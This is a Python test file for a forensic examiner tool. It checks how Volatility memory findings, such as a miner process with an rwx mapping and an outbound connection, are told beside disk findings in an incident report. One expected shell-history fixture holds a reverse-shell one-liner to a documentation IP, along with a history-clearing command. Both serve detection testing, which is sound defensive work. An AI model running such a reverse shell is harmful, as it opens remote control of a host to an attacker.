"""The narrative's memory steps: what Volatility's rows showed at capture, told beside the disk's story."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from examiner.memory import ANALYSED, MemoryAnalysis, PluginRun
from examiner.memory_findings import MemoryFinding, find_in_memory
from examiner.narrative import MEMORY_STAGE, NarrativeStep, memory_steps, with_memory
from examiner.report import CaseReportInput, render_report
from examiner.yarascan import SHIPPED_RULES, compile_rules
from tests.memory.test_volatility_findings import DISK, MINER, ROWS

ANALYSIS = MemoryAnalysis(
    status=ANALYSED,
    image="i-0abc.lime",
    plugins=[
        PluginRun(plugin=plugin, succeeded=True, rows=len(rows), output=f"{plugin}.json")
        for plugin, rows in ROWS.items()
    ],
)
DISK_STORY = [
    NarrativeStep(
        "persistence",
        datetime(2026, 1, 1, tzinfo=UTC),
        f"SUID binary: {MINER}",
        [f"/vol-0abc/p1{MINER}"],
        [f"/vol-0abc/p1{MINER}"],
    )
]


@pytest.fixture(scope="module")
def found() -> list[MemoryFinding]:
    rules, _ = compile_rules([SHIPPED_RULES])
    return find_in_memory(ROWS, DISK, yara_rules=rules)


def test_each_suspicious_process_is_one_step_naming_its_pid_rwx_mapping_listener_and_connection(
    found: list[MemoryFinding],
) -> None:
    steps = memory_steps(ANALYSIS, found)
    assert {step.stage for step in steps} == {MEMORY_STAGE} and all(step.time is None for step in steps)
    [miner] = [s for s in steps if s.summary.startswith("kworkerd (PID 90) was running: ")]
    assert "its executable /tmp/.X11-unix/kworkerd is a disk finding" in miner.summary
    assert "anonymous memory mapping that is writable and executable (rwx) at 0x7f5e7c166000-0x7f5e7c168000" in (
        miner.summary
    )
    assert "listening: TCP 0.0.0.0:8333" in miner.summary
    assert "connected to 203.0.113.66:3333 ESTABLISHED (outside private address space)" in miner.summary
    # Tied to the disk: the miner's step names and links the SUID file's finding.
    assert miner.summary.endswith(f"the same file as the disk finding /vol-0abc/p1{MINER}")
    assert miner.paths == [f"/vol-0abc/p1{MINER}"]
    assert "linux.malware.malfind: 0x7f5e7c166000-0x7f5e7c168000 f3 0f 1e fa 55 48 89 e5 31 c0 90 90" in (
        miner.evidence
    )
    # The socket row listed once per thread is one clause, one evidence line.
    assert miner.summary.count("203.0.113.66:3333") == 1
    [shell] = [s for s in steps if s.summary.startswith("bash (PID 94) was running: ")]
    assert "connected to 203.0.113.66:4444 ESTABLISHED" in shell.summary
    assert "history line `bash -i >& /dev/tcp/203.0.113.66/4444 0>&1`" in shell.summary
    assert "history line `history -c` (shell history cleared" in shell.summary
    # The most severe process first; private and loopback connections are no step.
    assert steps[0] is miner
    assert not [s for s in steps if "sshd" in s.summary or "curl" in s.summary]


def test_a_narrative_without_analysed_memory_says_memory_was_not_examined_and_why() -> None:
    reason = "no Volatility 3 symbol table for this kernel and no host BTF beside the image"
    [step] = memory_steps(MemoryAnalysis.not_analysed(reason, image="i-0abc.lime"), [])
    assert step.stage == MEMORY_STAGE
    assert step.summary == (f"memory was not examined: {reason}; no step of this story is corroborated from memory")


def test_memory_that_shows_nothing_suspicious_is_said_to_have_been_examined() -> None:
    [step] = memory_steps(ANALYSIS, [])
    assert step.summary.startswith("memory was examined (linux.psaux, linux.malware.malfind, linux.sockstat")
    assert step.summary.endswith("no process, mapping, socket or history line matched a memory rule")
    assert "analysis/volatility/linux.psaux.json" in step.evidence


def test_memory_steps_follow_the_disk_story_once(found: list[MemoryFinding]) -> None:
    story = with_memory(DISK_STORY, ANALYSIS, found)
    assert story[0] == DISK_STORY[0] and all(s.stage == MEMORY_STAGE for s in story[1:]) and len(story) > 2
    # Told again (notes read back, memory examined again): the memory steps are replaced, not doubled.
    assert with_memory(story, ANALYSIS, found) == story


def test_the_report_tells_the_memory_steps_at_capture_in_html_and_markdown(found: list[MemoryFinding]) -> None:
    from examiner.notes import ExaminerNotes

    case = CaseReportInput(
        case_id="case-1",
        instance_id="i-0abc",
        account="111111111111",
        region="eu-west-1",
        trigger="tag",
        action="Contain",
        memory=ANALYSIS,
        memory_findings=found,
        examiner_notes=ExaminerNotes(narrative=with_memory(DISK_STORY, ANALYSIS, found)),
    )
    rendered = render_report(case)
    html = rendered["report.html"].decode().replace("<wbr>", "")
    markdown = rendered["report.md"].decode().replace("\\", "")
    assert '<span class="stage">In memory at capture</span> <span class="when">at capture</span>' in html
    assert "kworkerd (PID 90) was running: " in html and "listening: TCP 0.0.0.0:8333" in html
    assert "**in memory at capture** (at capture): kworkerd (PID 90) was running: " in markdown
    assert "connected to 203.0.113.66:3333 ESTABLISHED" in markdown
